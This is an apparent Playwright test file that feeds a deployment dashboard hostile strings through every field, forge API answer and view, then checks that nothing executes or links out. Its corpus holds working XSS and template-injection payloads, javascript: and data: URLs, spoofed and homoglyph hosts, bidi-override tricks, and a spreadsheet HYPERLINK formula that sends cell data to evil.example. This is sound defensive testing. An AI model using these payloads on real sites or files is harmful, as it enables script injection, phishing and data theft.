// Hostile texts in every field of rows, forges' answers, configuration and address, in every view: nothing runs, no
// link leads astray, and no text looks like what it is not or disturbs what stands beside it.

import { once } from "node:events";
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";

import { enterTokens } from "../support/forges.mjs";
import { full, hex, sync } from "../support/rows.mjs";
import { expect, test as base } from "../support/test.mjs";

/** By what each would do if it were taken for more than text. */
const CORPUS = {
  markup: `<img src=x onerror="pwned=1"><script>pwned=1</script><svg onload=pwned=1>`,
  attribute: `" onmouseover="pwned=1" style="position:fixed;inset:0" x="`,
  "closing tag": `</td></tr></table><iframe srcdoc="<script>parent.pwned=1</script>">`,
  template: `\${pwned=1} {{constructor.constructor('pwned=1')()}} <%= pwned=1 %>`,
  "script address": "javascript:pwned=1//https://dev.azure.com",
  "data address": "data:text/html,<script>parent.pwned=1</script>",
  "user in an address": "https://dev.azure.com@evil.example/run",
  "backslashes in an address": "https:\\\\evil.example\\run",
  "Cyrillic letter in a host": "https://g\u0456thub.com/contoso",
  "unseen character in a host": "https://github\u200b.com.evil.example/contoso",
  style: "red;position:fixed;inset:0;background:url(https://evil.example/x)} body{display:none}",
  override: "\u202egnp.exe\u202c prod \u202dabc",
  "open isolate": "\u2067\u2066abc\u061c",
  "zero width": "a\u200bp\u2060i\ufeff\u00ad",
  "right to left": "\u05e9\u05dc\u05d5\u05dd 12 (\u0645\u0631\u062d\u0628\u0627) 34",
  formula: `=HYPERLINK("https://evil.example/?"&A1,"api")`,
  "Markdown": "[api](https://evil.example) ![x](https://evil.example/x) | `a` | <b>x</b>",
  "combining marks": `Z${"\u0300\u0323".repeat(60)}algo`,
  "long word": "W".repeat(600),
};
const PLAIN = "An ordinary text";
/** What is not to be seen as it is. */
const UNSEEN = "[\\u00ad\\u061c\\u180e\\u200b\\u200e\\u200f\\u202a-\\u202e\\u2060-\\u2069\\ufeff]";

const TEXTS = [
  "service", "env", "branch", "commitMessage", "authorName", "authorEmail", "authorImage", "authorUrl", "imageTag", "p1Name",
  "p2Name", "p3Name", "p1Url", "p2Url", "p3Url", "p1Status", "prTitle", "prUrl", "prBranch", "mergedBy", "mergedByImage",
  "sourceRepo", "hldRepo", "manifestRepo",
];

/** Rows of which each has one text of the corpus in all its fields, and one whose state a forge tells. */
function rowsOf(texts) {
  const rows = texts.flatMap((text, n) => [
    full(n + 1, { ...Object.fromEntries(TEXTS.map((field) => [field, text])), RowKey: `${n} ${text}`.slice(0, 200), pr: String(n + 1), prState: "open" }),
    // Of ordinary places, so that what forges say of it is seen in every view.
    full(n + 101, { commitMessage: text, authorName: text, env: n % 2 ? "dev" : "prod", service: "api", p1: String(n + 1), p1Status: undefined, p1Url: undefined, pr: String(n + 1), sourceRepo: undefined, hldRepo: undefined, manifestRepo: undefined }),
  ]);
  const clusters = texts.map((text, n) => sync(`${n} ${text}`.slice(0, 100), rows[0].manifestCommitId, { syncState: "failed", syncMessage: text }));
  return [...rows, ...clusters];
}

const test = base.extend({
  /** Gives the page rows, a configuration and a GitLab full of these texts. */
  speak: async ({ site }, use) => {
    let texts = [];
    const server = createServer((request, response) => {
      response.setHeader("access-control-allow-origin", "*").setHeader("access-control-allow-headers", "*");
      response.setHeader("content-type", "application/json");
      const { pathname } = new URL(request.url, "http://localhost");
      const [, kind, id] = /\/(pipelines|merge_requests|commits)\/([^/]+)$/.exec(pathname) ?? [];
      const text = texts[(Number(id) - 1) % texts.length] ?? texts[0];
      const person = { name: text, username: text, web_url: text, avatar_url: text };
      const answers = {
        pipelines: { id: Number(id), iid: Number(id), project_id: 1, status: "failed", ref: text, name: text, sha: hex(1, 40), web_url: text, user: person, yaml_errors: text },
        merge_requests: { iid: Number(id), title: text, state: "opened", web_url: text, source_branch: text, author: person, merged_by: person, reviewers: [person] },
        commits: { id: (id ?? "").padEnd(40, "0"), message: text, title: text, author_name: text, author_email: text, web_url: text },
      };
      response.end(JSON.stringify(answers[kind] ?? (/\/jobs$/.test(pathname) ? [{ id: 1, name: text, stage: text, status: "failed", web_url: text, failure_reason: text }] : [])));
    }).listen(0, "127.0.0.1");
    await once(server, "listening");
    const origin = `http://127.0.0.1:${server.address().port}`;
    await use(async (spoken) => {
      texts = spoken;
      const [title] = texts;
      await site.useRows(rowsOf(texts), {
        title, rings: [{ name: "dev", title }, { name: "prod", title: texts.at(-1) }],
        links: [{ title, url: "https://logs.example/?app={service}&commit={commit}" }],
      });
      site.config.projects[0].pipelines = { kind: "gitlab", project: "1", api: `${origin}/api/v4` };
      return [site.origin, origin];
    });
    server.closeAllConnections();
    server.close();
  },
});

/** Every view, and the address with a text of the corpus wherever it takes one. */
const VIEWS = {
  rings: () => "?view=rings",
  deployments: () => "?view=deployments",
  compare: () => "?view=compare&from=dev&to=prod",
  history: () => "?view=history&of=api",
  connections: () => "?view=setup",
  badge: () => "?view=badge",
  wall: () => "?view=rings&kiosk",
  details: (text) => `?view=deployments&deployment=${encodeURIComponent(`0 ${text}`.slice(0, 200))}`,
  searched: (text) => `?view=deployments&q=${encodeURIComponent(text)}&service=${encodeURIComponent(text)}&sort=${encodeURIComponent(text)}`,
  "history of it": (text) => `?view=history&of=${encodeURIComponent(text)}`,
  "comparison of it": (text) => `?view=compare&from=${encodeURIComponent(text)}&to=${encodeURIComponent(text)}`,
};

/** What of the document is not as it should be, and how many nodes it has. */
const inspect = (page) =>
  page.evaluate((unseen) => {
    const wrong = [];
    const isUnseen = new RegExp(unseen, "u");
    const all = [...document.body.querySelectorAll("*")];
    for (const link of document.querySelectorAll("[href], [src], [action]")) {
      const text = link.href ?? link.src ?? link.action;
      const { protocol, hostname, username } = new URL(text, location.href);
      if (!/^https?:$/.test(protocol) || /evil|xn--/.test(hostname) || username) wrong.push(`leads to ${text}`);
    }
    for (const element of all) {
      if (/^(IFRAME|OBJECT|EMBED|SCRIPT|STYLE|BASE|META)$/.test(element.nodeName)) wrong.push(`is there: ${element.outerHTML}`);
      for (const { name, value } of element.attributes) {
        if (name.startsWith("on")) wrong.push(`listens: ${name}`);
        if (/^(title|aria-label|alt|placeholder)$/.test(name) && isUnseen.test(value)) wrong.push(`says unseen: ${name} ${value}`);
      }
      for (const node of element.childNodes) if (node.nodeType === 3 && isUnseen.test(node.data)) wrong.push(`shows unseen: ${node.data}`);
      const style = getComputedStyle(element);
      if (style.position === "fixed" && !element.closest(".skip, .toast, dialog, .drawer, [data-details], .kiosk")) wrong.push(`lies over all: ${element.className}`);
      // What is inline and could turn what follows.
      const isData = [...element.childNodes].some((node) => node.nodeType === 3 && /[\u0590-\u07ff]/.test(node.data));
      if (isData && style.display === "inline" && !/isolate/.test(style.unicodeBidi)) wrong.push(`turns what follows: ${element.outerHTML.slice(0, 200)}`);
    }
    // No text leaves its cell.
    for (const cell of document.querySelectorAll("td, th")) {
      const box = cell.getBoundingClientRect();
      for (const element of cell.querySelectorAll("*")) {
        const inner = element.getBoundingClientRect();
        const clips = (e) => e !== cell.parentElement && (/hidden|clip|auto|scroll/.test(getComputedStyle(e).overflowX) || (e !== cell && clips(e.parentElement)));
        if (inner.width && inner.right > box.right + 2 && !clips(element.parentElement) && !element.closest(".unseen")) {
          wrong.push(`leaves its cell: ${element.className} ${element.textContent.slice(0, 40)}`);
        }
      }
    }
    const { scrollWidth, clientWidth } = document.documentElement;
    if (scrollWidth > clientWidth + 1) wrong.push(`the page is ${scrollWidth} wide`);
    if (isUnseen.test(document.title)) wrong.push(`title: ${document.title}`);
    return { wrong: [...new Set(wrong)].slice(0, 8), nodes: all.length, ran: window.pwned };
  }, UNSEEN);

/** Opens a view and waits until all that is asked is answered and drawn. */
async function settled(page, ringside, query) {
  await ringside.open(query);
  await page.waitForLoadState("networkidle");
  await drawn(page);
}

const drawn = (page) => page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));

for (const [view, query] of Object.entries(VIEWS)) {
  test(`${view}: hostile texts stay texts`, async ({ ringside, page, requests, speak, trouble }) => {
    trouble.expectNetwork();
    test.setTimeout(60_000);
    page.on("dialog", (dialog) => void dialog.dismiss().then(() => { throw new Error("a dialog was opened"); }));
    const texts = Object.values(CORPUS);
    await speak(texts.map(() => PLAIN));
    await settled(page, ringside, query(PLAIN));
    const plain = await inspect(page);
    const allowed = await speak(texts);
    // What the address says is one text; the rows have all of them.
    const said = view.includes("it") || /details|searched/.test(view) ? texts : texts.slice(0, 1);
    await settled(page, ringside, query(said[0]));
    for (const text of said) {
      await ringside.visit(query(text));
      await drawn(page);
      const { wrong, ran, nodes } = await inspect(page);
      expect(wrong, text).toEqual([]);
      expect(ran, text).toBe(undefined);
      // As much to draw as with ordinary texts: rows, cells and groups of distinct names come to a few times as many.
      expect(nodes, text).toBeLessThan(6 * plain.nodes + 400);
    }
    const foreign = requests.map((request) => request.url()).filter((url) => !allowed.includes(new URL(url).origin) && !url.startsWith("data:"));
    expect(foreign, "requests to others").toEqual([]);
  });
}

test.describe("what Azure DevOps, GitHub and GitLab tell", () => {
  /** What people have written, and where it is to be seen. Not what things are told apart by: ids, branches, environments. */
  const WRITTEN = /^(displayName|title|display_title|message|messageHeadline|comment|commentTruncated|description|login|username|uniqueName|html_url|htmlUrl|web_url|webUrl|detailsUrl|targetUrl|target_url|href|avatar_url|avatarUrl|imageUrl|failure_reason|reason)$/;

  /** An answer whose every written text is another one of the corpus. */
  const hostile = (answer) => {
    const texts = Object.values(CORPUS);
    let said = 0;
    return JSON.parse(JSON.stringify(answer), (name, value) =>
      typeof value === "string" && WRITTEN.test(name) ? texts[said++ % texts.length] : value);
  };

  test.beforeEach(async ({ page, site, forges, trouble }) => {
    trouble.expectNetwork();
    await forges.useAt(site);
    await enterTokens(page, forges);
    for (const name of Object.keys(forges.origins)) forges.disturb(name, { alter: hostile });
  });

  for (const [view, query] of Object.entries({
    rings: "?view=rings",
    deployments: "?view=deployments",
    history: "?view=history&of=quiz",
    "a staged run": "?view=deployments&deployment=stages:stages/stages-retried",
    "a release": "?view=deployments&deployment=classic:classic/failed-in-prod",
    "a run on GitHub": "?view=deployments&deployment=jobs:jobs/jobs-waiting",
    "a pipeline on GitLab": "?view=deployments&deployment=lab:lab/pipeline-running",
  })) {
    test(`${view}: hostile texts stay texts`, async ({ ringside, page, requests, forges, site }) => {
      test.setTimeout(60_000);
      await ringside.open(query);
      // Some of them are there, in what is said or in what is said of it.
      const plain = (text) => text.replace(/[^!-~]/g, "");
      const begins = Object.values(CORPUS).map((text) => plain(text).slice(0, 10)).filter((text) => text.length > 6);
      const are = async () => {
        const said = await page.evaluate(() =>
          [...document.body.querySelectorAll("*")].flatMap((e) => [e.getAttribute("title") ?? "", e.getAttribute("aria-label") ?? "", e.children.length ? "" : e.textContent]));
        return begins.some((text) => said.some((words) => plain(words).includes(text)));
      };
      await expect.poll(are, { timeout: 30_000 }).toBe(true);
      await page.waitForLoadState("networkidle");
      await drawn(page);
      const { wrong, ran } = await inspect(page);
      expect(wrong).toEqual([]);
      expect(ran).toBe(undefined);
      const allowed = [site.origin, ...Object.values(forges.origins)];
      expect(requests.map((request) => request.url()).filter((url) => !allowed.includes(new URL(url).origin) && !url.startsWith("data:"))).toEqual([]);
    });
  }
});
